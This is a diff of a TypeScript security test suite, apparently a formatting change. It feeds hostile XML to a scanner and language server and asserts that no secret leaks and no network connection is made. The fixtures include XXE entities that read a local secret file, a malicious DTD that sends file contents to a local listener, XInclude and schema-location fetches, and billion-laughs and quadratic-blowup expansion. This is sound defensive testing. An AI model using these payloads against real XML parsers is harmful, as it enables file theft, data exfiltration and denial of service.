@@ -40,12 +40,28 @@ function hostileDocuments(port: number, secret: string): Array<{ name: string; t
     { name: 'external-dtd-dns.xml', dtd: true, text: `<!DOCTYPE r SYSTEM "http://nhn-hostile.invalid/x.dtd">\n<r/>\n` },
     { name: 'billion-laughs.xml', dtd: true, text: `<?xml version="1.0"?>\n<!DOCTYPE lolz [${lol}]>\n<lolz>&lol9;</lolz>\n` },
     { name: 'quadratic-blowup.xml', dtd: true, text: `<!DOCTYPE r [<!ENTITY a "${'x'.repeat(50_000)}">]>\n<r>${'&a;'.repeat(50_000)}</r>\n` },
-    { name: 'schemalocation-http.xml', dtd: false, text: `<r xmlns="urn:evil" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:evil ${url}/s.xsd"/>\n` },
-    { name: 'nonamespace-schemalocation-http.xml', dtd: false, text: `<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${url}/s.xsd"/>\n` },
-    { name: 'xinclude.xml', dtd: false, text: `<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://${secret}/secret.txt" parse="text"/><xi:include href="${url}/inc.xml"/></r>\n` },
+    {
+      name: 'schemalocation-http.xml',
+      dtd: false,
+      text: `<r xmlns="urn:evil" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:evil ${url}/s.xsd"/>\n`,
+    },
+    {
+      name: 'nonamespace-schemalocation-http.xml',
+      dtd: false,
+      text: `<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${url}/s.xsd"/>\n`,
+    },
+    {
+      name: 'xinclude.xml',
+      dtd: false,
+      text: `<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://${secret}/secret.txt" parse="text"/><xi:include href="${url}/inc.xml"/></r>\n`,
+    },
     { name: 'stylesheet-pi.xml', dtd: false, text: `<?xml-stylesheet type="text/xsl" href="${url}/s.xsl"?>\n<r/>\n` },
     { name: 'msghead-xxe.xml', dtd: true, text: msgHead(`<!DOCTYPE MsgHead [<!ENTITY x SYSTEM "file://${secret}/secret.txt">]>`, 'x') },
-    { name: 'msghead-param-entity.xml', dtd: true, text: msgHead(`<!DOCTYPE MsgHead [<!ENTITY % p SYSTEM "${url}/p.dtd"> %p; <!ENTITY x "DIALOG_HELSEFAGLIG">]>`, 'y') },
+    {
+      name: 'msghead-param-entity.xml',
+      dtd: true,
+      text: msgHead(`<!DOCTYPE MsgHead [<!ENTITY % p SYSTEM "${url}/p.dtd"> %p; <!ENTITY x "DIALOG_HELSEFAGLIG">]>`, 'y'),
+    },
     { name: 'msghead-laughs.xml', dtd: true, text: msgHead(`<!DOCTYPE MsgHead [${lol}<!ENTITY x "&lol9;">]>`, 'z') },
   ];
 }
@@ -55,9 +71,13 @@ beforeAll(async () => {
   scanDir = mkdtempSync(path.join(tmpdir(), 'nhn-hostile-'));
   secretDir = mkdtempSync(path.join(tmpdir(), 'nhn-secret-'));
   writeFileSync(path.join(secretDir, 'secret.txt'), SENTINEL);
-  writeFileSync(path.join(secretDir, 'evil.dtd'), `<!ENTITY % file SYSTEM "file://${secretDir}/secret.txt">\n<!ENTITY % all "<!ENTITY send SYSTEM 'http://127.0.0.1:${listener.port}/?%file;'>">\n`);
+  writeFileSync(
+    path.join(secretDir, 'evil.dtd'),
+    `<!ENTITY % file SYSTEM "file://${secretDir}/secret.txt">\n<!ENTITY % all "<!ENTITY send SYSTEM 'http://127.0.0.1:${listener.port}/?%file;'>">\n`,
+  );
   for (const d of hostileDocuments(listener.port, secretDir)) writeFileSync(path.join(scanDir, d.name), d.text);
-  if (!straceWorks()) console.log('robust/hostile: strace is not available or not permitted here: the syscall assertions are skipped (listener and output checks still run)');
+  if (!straceWorks())
+    console.log('robust/hostile: strace is not available or not permitted here: the syscall assertions are skipped (listener and output checks still run)');
 });
 
 afterAll(async () => {
@@ -94,7 +114,10 @@ describe('hostile XML', () => {
     expect(r.stdout + r.stderr).not.toContain(SENTINEL);
     expect(r.stdout + r.stderr).not.toMatch(/root:x?:0:0/);
     for (const d of hostileDocuments(0, '').filter((x) => x.dtd)) {
-      expect(out.findings.filter((f) => f.file.endsWith(d.name)).map((f) => f.rule), d.name).toContain('xml/dtd-not-loaded');
+      expect(
+        out.findings.filter((f) => f.file.endsWith(d.name)).map((f) => f.rule),
+        d.name,
+      ).toContain('xml/dtd-not-loaded');
     }
     expect(listener.connections(), 'connections to the local listener').toBe(0);
     if (straceWorks()) {
@@ -116,10 +139,17 @@ describe('hostile XML', () => {
         const diags = await got;
         expect(Date.now() - t0, d.name).toBeLessThan(BOUND_MS);
         expect(JSON.stringify(diags)).not.toContain(SENTINEL);
-        if (d.dtd) expect(diags.map((x) => x.code), d.name).toContain('xml/dtd-not-loaded');
+        if (d.dtd)
+          expect(
+            diags.map((x) => x.code),
+            d.name,
+          ).toContain('xml/dtd-not-loaded');
       }
       // Hovers and code actions on the hostile documents answer too (a request after them does not hang).
-      const hover = await session.connection.sendRequest('textDocument/hover', { textDocument: { uri: `file://${scanDir}/msghead-xxe.xml` }, position: { line: 3, character: 12 } });
+      const hover = await session.connection.sendRequest('textDocument/hover', {
+        textDocument: { uri: `file://${scanDir}/msghead-xxe.xml` },
+        position: { line: 3, character: 12 },
+      });
       expect(JSON.stringify(hover ?? null)).not.toContain(SENTINEL);
     } finally {
       await session.close();
